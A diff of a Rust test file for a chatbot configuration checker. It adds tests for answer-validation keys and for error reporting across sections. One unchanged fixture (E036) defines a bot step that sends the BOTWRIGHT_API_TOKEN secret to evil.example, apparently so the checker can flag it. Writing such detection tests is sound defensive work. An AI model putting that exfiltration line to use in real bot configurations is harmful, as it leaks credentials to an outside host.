@@ -67,6 +67,12 @@ fn fixture(code: &str) -> String {
         "E036" => {
             "[[keyword]]\nmatch = \"go\"\nrun = \"leak\"\n\n[algorithms.leak]\nhttp = \"https://evil.example/${BOTWRIGHT_API_TOKEN}\"\n"
         }
+        "E037" => {
+            "[[keyword]]\nmatch = \"a\"\ninput = \"Send the contract\"\naccept = [\"document\"]\ntype = \"date\"\nthen = \"b\"\n\n[[keyword]]\nid = \"b\"\nreply = \"ok\"\n"
+        }
+        "E038" => {
+            "[[keyword]]\nmatch = \"a\"\ninput = \"How many?\"\ntype = \"numbr\"\nthen = \"b\"\n\n[[keyword]]\nid = \"b\"\nreply = \"ok\"\n"
+        }
         "W001" => "[[keyword]]\nid = \"lonely\"\nreply = \"x\"\n",
         "W002" => {
             "[[keyword]]\nid = \"c\"\nmatch = \"c\"\nchoice = \"Pick\"\n\n[[keyword]]\nparent = \"c\"\nmatch = \"*\"\nreply = \"any\"\n\n[[keyword]]\nparent = \"c\"\nmatch = \"late\"\nreply = \"never\"\n"
@@ -277,4 +283,114 @@ fn bots_compiled_together_own_the_variables_their_longest_id_prefixes() {
         "{}",
         found[0].message
     );
+}
+
+/// The keys of a checked answer: each mistake gets its code, and a correct use none.
+#[test]
+fn the_keys_of_a_checked_answer_are_checked() {
+    let input = |keys: &str| {
+        format!(
+            "{HEAD}[[keyword]]\nmatch = \"a\"\ninput = \"How many?\"\n{keys}then = \"b\"\n\n[[keyword]]\nid = \"b\"\nreply = \"ok\"\n"
+        )
+    };
+    let codes = |text: &str| -> Vec<&'static str> { compile("answer", text).iter().map(|d| d.code.as_str()).collect() };
+    let good = input(
+        "type = \"integer\"\ncheck = \"input > 0 and input <= vars.max\"\ninvalid = \"«{{ input }}» is not a count\"\nattempts = 3\n",
+    );
+    assert_eq!(codes(&good), Vec::<&str>::new());
+    assert_eq!(codes(&input("type = \"integer\"\naccept = [\"photo\"]\n")), ["E037"]);
+    assert_eq!(
+        codes(&input("type = \"integer\"\naccept = [\"photo\", \"text\"]\n")),
+        Vec::<&str>::new()
+    );
+    assert_eq!(codes(&input("type = \"fraction\"\n")), ["E038"]);
+    assert_eq!(codes(&input("check = \"input >\"\n")), ["E018"]);
+    assert_eq!(codes(&input("check = \"inptu > 1\"\n")), ["E019"]);
+    assert_eq!(codes(&input("invalid = \"<b>no\"\n")), ["E017"]);
+    assert_eq!(codes(&input("attempts = 0\n")), ["E028"]);
+    assert_eq!(codes(&input("attempts = -2\n")), ["E028"]);
+    assert_eq!(codes(&input("attempts = 99999999999\n")), Vec::<&str>::new());
+    for key in [
+        "type = \"number\"",
+        "check = \"true\"",
+        "invalid = \"no\"",
+        "attempts = 2",
+    ] {
+        let text = format!("{HEAD}[[keyword]]\nmatch = \"a\"\nreply = \"x\"\n{key}\n");
+        let found = compile("misplaced", &text);
+        assert_eq!(found.len(), 1, "{key}: {found:?}");
+        assert_eq!(found[0].code, Code::MisplacedKey, "{key}");
+        assert!(
+            found[0].message.contains("does not apply to a `reply` record"),
+            "{}",
+            found[0].message
+        );
+    }
+}
+
+/// One `check` reports every problem of a file, in every section, also the ones found by
+/// checks that read what earlier checks refused (records, notifications' buttons).
+#[test]
+fn one_run_reports_the_errors_of_every_section() {
+    let text = r#"[bot]
+name = "T"
+token_env = "T_TOKEN"
+language = "fr"
+
+[texts]
+greting = "Hi"
+unknown = "{{ nope }}"
+
+[auth]
+required = true
+
+[[keyword]]
+match = "a"
+alias = "nowhere"
+
+[[keyword]]
+id = "done"
+match = "done"
+input = "Comment?"
+type = "numbr"
+then = "missing"
+
+[[keyword]]
+id = "plain"
+match = "plain"
+reply = "<b>open"
+
+[algorithms.calc]
+timeout = "soon"
+
+[notifications.task]
+text = "Task {{ data.id"
+buttons = [[
+  { text = "Done", action = "plain", value = "{{ data.id }}" },
+  { text = "Gone", action = "ghost", value = "1" },
+]]
+"#;
+    let found = compile("every", text);
+    let mut codes: Vec<&str> = found.iter().map(|d| d.code.as_str()).collect();
+    codes.sort();
+    assert_eq!(
+        codes,
+        [
+            "E007", "E007", "E007", "E016", "E017", "E018", "E019", "E023", "E027", "E028", "E028", "E028", "E038"
+        ],
+        "{}",
+        render(&found, Format::Human)
+    );
+    let messages: Vec<&str> = found.iter().map(|d| d.message.as_str()).collect();
+    for expected in [
+        "record `plain` is not marked `action = true`",
+        "`action` names no record: `ghost`",
+        "`then` names no record: `missing`",
+        "`alias` names no record: `nowhere`",
+    ] {
+        assert!(
+            messages.iter().any(|m| m.contains(expected)),
+            "{expected}: {messages:#?}"
+        );
+    }
 }
